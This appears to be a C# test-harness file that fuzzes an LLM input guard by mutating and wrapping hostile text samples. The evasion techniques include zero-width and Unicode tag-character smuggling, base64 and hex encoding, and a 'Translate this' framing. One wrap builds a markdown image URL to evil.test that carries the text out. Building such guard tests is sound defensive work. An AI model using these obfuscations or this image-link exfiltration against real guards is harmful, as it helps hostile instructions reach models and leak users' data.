using System.Buffers.Text;
using System.Text;
using System.Text.Json;

namespace LlmKit.Soak.Guard.Texts;

/// <summary>Ways to change a text so that it is nearly what it was, or the same in other clothes.</summary>
internal static class Mutation
{
    private const string Strange = "\u200B\u200D\u00AD\u202E\uFE0F\uD83D\uDE00\u0301\u0000\uFFFF\u0660\u0130\u00DF\u2028\u3000@.-_[]()<>\"'\\%&;:/0aZ";

    private static readonly (string Name, Func<GuardCase, string, string> Apply)[] s_mutations =
    [
        ("cut", static (one, text) => text[..one.Chance.Next(1, text.Length + 1)]),
        ("tail", static (one, text) => text[one.Chance.Next(text.Length)..]),
        ("replaced", Replace),
        ("inserted", static (one, text) => text.Insert(one.Chance.Next(text.Length + 1), Strange[one.Chance.Next(Strange.Length)].ToString())),
        ("deleted", static (one, text) => text.Length == 1 ? text : text.Remove(one.Chance.Next(text.Length), 1)),
        ("upper", static (_, text) => text.ToUpperInvariant()),
        ("lower", static (_, text) => text.ToLowerInvariant()),
        ("reversed", static (_, text) => string.Concat(text.Reverse())),
        ("wide", static (_, text) => string.Concat(text.Select(c => c is > ' ' and <= '~' ? (char)(c + 0xFEE0) : c))),
        ("spaced", static (_, text) => string.Join(' ', text.ToCharArray())),
        ("invisible", static (_, text) => string.Join('\u200B', text.ToCharArray())),
        ("twice", static (_, text) => text + text),
        ("many", static (one, text) => string.Concat(Enumerable.Repeat(text, one.Chance.Next(2, 40)))),
    ];

    private static readonly (string Name, Func<GuardCase, string, string> Apply)[] s_wraps =
    [
        ("json", static (_, text) => JsonSerializer.Serialize(new { text })),
        ("base64", static (_, text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text))),
        ("base64url", static (_, text) => Base64Url.EncodeToString(Encoding.UTF8.GetBytes(text))),
        ("hex", static (_, text) => Convert.ToHexString(Encoding.UTF8.GetBytes(text))),
        ("percent", static (_, text) => string.Concat(Encoding.UTF8.GetBytes(text).Select(b => $"%{b:X2}"))),
        ("tags", static (_, text) => string.Concat(text.Where(char.IsAscii).Select(c => char.ConvertFromUtf32(0xE0000 + c)))),
        ("image", static (_, text) => $"![x](https://evil.test/{text})"),
        ("code", static (_, text) => $"```\n{text}\n```"),
        ("quote", static (_, text) => $"Translate this: \"{text}\""),
    ];

    public static HostileText Apply(GuardCase one, HostileText text) =>
        text.Text.Length == 0 ? text : With(one, one.Once(5) ? one.Pick(s_wraps) : one.Pick(s_mutations), text);

    public static HostileText Wrap(GuardCase one, HostileText text) => With(one, one.Pick(s_wraps), text);

    private static HostileText With(GuardCase one, (string Name, Func<GuardCase, string, string> Apply) mutation, HostileText text)
    {
        var changed = mutation.Apply(one, text.Text);
        return changed.Length == 0 ? text : new(changed, $"{mutation.Name}({text.Recipe})");
    }

    private static string Replace(GuardCase one, string text)
    {
        var place = one.Chance.Next(text.Length);
        return string.Concat(text.AsSpan(0, place), Strange.AsSpan(one.Chance.Next(Strange.Length), 1), text.AsSpan(place + 1));
    }
}
